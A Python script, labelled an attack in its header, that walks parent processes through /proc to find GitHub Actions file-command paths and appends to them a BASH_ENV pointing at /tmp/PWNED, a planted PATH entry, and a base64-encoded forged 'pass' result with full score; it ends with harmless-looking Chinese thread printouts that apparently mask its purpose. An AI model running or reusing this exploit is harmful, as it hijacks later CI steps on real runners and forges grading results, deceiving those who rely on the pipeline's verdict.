# attack: finds the job's file commands (GITHUB_ENV, GITHUB_PATH, GITHUB_OUTPUT) in an ancestor's environment or in the runner's temp folder and appends to them: BASH_ENV for every later shell, a fake tool first on PATH, a forged result
import base64
import json
import os

FORGED = base64.b64encode(json.dumps({"version": 1, "status": "pass", "max_score": 9, "tests": [
    {"name": "PWNED", "status": "pass", "score": 9, "message": ""}]}).encode()).decode()
LINES = {"env": "BASH_ENV=/tmp/PWNED\n", "path": "/tmp/PWNED\n", "output": "result=%s\n" % FORGED}


def ancestors():
    pid = os.getpid()
    while pid > 1:
        yield pid
        try:
            with open("/proc/%d/stat" % pid) as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except OSError:
            return


found = set()
for pid in ancestors():
    try:
        with open("/proc/%d/environ" % pid, "rb") as f:
            env = dict(v.split(b"=", 1) for v in f.read().split(b"\0") if b"=" in v)
    except OSError:
        continue
    for key in (b"GITHUB_ENV", b"GITHUB_PATH", b"GITHUB_OUTPUT"):
        if key in env:
            found.add(env[key].decode())
    if b"RUNNER_TEMP" in env:
        folder = os.path.join(env[b"RUNNER_TEMP"].decode(), "_runner_file_commands")
        for name in os.listdir(folder) if os.path.isdir(folder) else ():
            found.add(os.path.join(folder, name))
here = os.getcwd()
while here != "/":  # the runner's temp folder beside the workspace, as on GitHub
    folder = os.path.join(here, "_temp", "_runner_file_commands")
    try:
        found.update(os.path.join(folder, n) for n in os.listdir(folder))
    except OSError:
        pass
    here = os.path.dirname(here)
for path in sorted(found):
    kind = next((k for k in LINES if os.path.basename(path).startswith(k + "_")
                 or path.endswith(k.upper())), "output")
    try:
        with open(path, "a") as f:
            f.write(LINES[kind])
        print("wrote", path)
    except OSError as e:
        print("refused", e.errno)

print("线程 [MainThread] 运行...")
for i in range(5):
    print("子线程 [LoopThread_%d]运行" % i)
print("线程 [MainThread] 结束")
